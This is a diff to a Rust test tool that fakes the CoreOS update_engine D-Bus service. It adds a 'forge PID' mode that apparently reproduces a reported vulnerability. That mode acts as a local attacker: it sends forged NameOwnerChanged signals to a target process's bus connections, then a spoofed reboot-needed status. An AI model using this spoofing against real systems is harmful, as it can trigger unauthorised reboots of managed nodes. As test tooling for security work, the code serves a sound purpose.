@@ -20,6 +20,12 @@
 //!
 //! Usage: `fake-update-engine [VERSION [PING_MS]]` (the version an update installs, 9999.0.0
 //! unset; PING_MS 2700000, 45 minutes, unset).
+//!
+//! `fake-update-engine forge PID` plays a local attacker instead (issue 64): as whoever runs it,
+//! it tells each system-bus connection of process PID (nodectld's) that `com.coreos.update1`
+//! is now its own (a `NameOwnerChanged` addressed to that connection), then signals
+//! UPDATED_NEED_REBOOT from its own name, to everyone and to each connection; it prints what it
+//! sent and exits.
 //! Not modelled: the Omaha protocol, the download, the partitions, `ResetStatus`, `SetChannel`.
 
 use std::sync::{Arc, Mutex};
@@ -92,8 +98,57 @@ impl Manager {
     }
 }
 
+/// `forge PID`: see the module's text.
+async fn forge(pid: u32) -> zbus::Result<()> {
+    let conn = zbus::Connection::system().await?;
+    let me = conn.unique_name().expect("a unique name").to_string();
+    let bus = zbus::fdo::DBusProxy::new(&conn).await?;
+    let owner = bus
+        .get_name_owner("com.coreos.update1".try_into()?)
+        .await
+        .map_or_else(|_| String::new(), |o| o.to_string());
+    let mut targets = Vec::new();
+    for name in bus.list_names().await? {
+        if name.starts_with(':') {
+            let n = zbus::names::BusName::try_from(name.to_string())?;
+            if bus.get_connection_unix_process_id(n).await.ok() == Some(pid) {
+                targets.push(name.to_string());
+            }
+        }
+    }
+    println!("forge: as {me}, update_engine is {owner:?}; connections of pid {pid}: {targets:?}");
+    let need: Status = (now(), 1.0, NEED_REBOOT.into(), "6666.6.6".into(), 1);
+    for t in &targets {
+        conn.emit_signal(
+            Some(t.as_str()),
+            "/org/freedesktop/DBus",
+            "org.freedesktop.DBus",
+            "NameOwnerChanged",
+            &("com.coreos.update1", owner.as_str(), me.as_str()),
+        )
+        .await?;
+        println!("forge: NameOwnerChanged to {t}");
+    }
+    for t in std::iter::once(None).chain(targets.iter().map(|t| Some(t.as_str()))) {
+        conn.emit_signal(t, PATH, IFACE, "StatusUpdate", &need)
+            .await?;
+        println!(
+            "forge: StatusUpdate {NEED_REBOOT} to {}",
+            t.unwrap_or("everyone")
+        );
+    }
+    Ok(())
+}
+
 #[tokio::main(flavor = "current_thread")]
 async fn main() -> zbus::Result<()> {
+    if std::env::args().nth(1).as_deref() == Some("forge") {
+        let pid = std::env::args()
+            .nth(2)
+            .and_then(|p| p.parse().ok())
+            .expect("forge PID");
+        return forge(pid).await;
+    }
     let version = std::env::args().nth(1).unwrap_or_else(|| "9999.0.0".into());
     let ping: u64 = std::env::args()
         .nth(2)
